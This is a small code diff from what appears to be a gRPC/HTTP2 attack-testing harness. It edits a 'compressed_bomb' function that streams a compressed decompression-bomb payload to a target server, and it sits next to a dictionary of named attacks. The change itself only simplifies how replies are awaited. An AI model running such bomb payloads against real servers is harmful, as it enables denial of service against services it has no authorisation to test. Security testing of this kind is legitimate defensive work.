@@ -192,10 +192,7 @@ def compressed_bomb(target: str, encoding: str, path: str = CLAIM_PATH) -> Count
         chunks = [bomb[start : start + FRAME_BYTES] for start in range(0, len(bomb), FRAME_BYTES)]
         peer.send(peer.headers(1, ("grpc-encoding", encoding), path=path))
         peer.send(*(data(1, chunk, end_stream=chunk is chunks[-1]) for chunk in chunks))
-        answers = peer.answers(_SILENCE_S)
-        while not answers:
-            answers = peer.answers(_SILENCE_S)
-        return answers
+        return peer.answer()
 
 
 ATTACKS: dict[str, Attack] = {
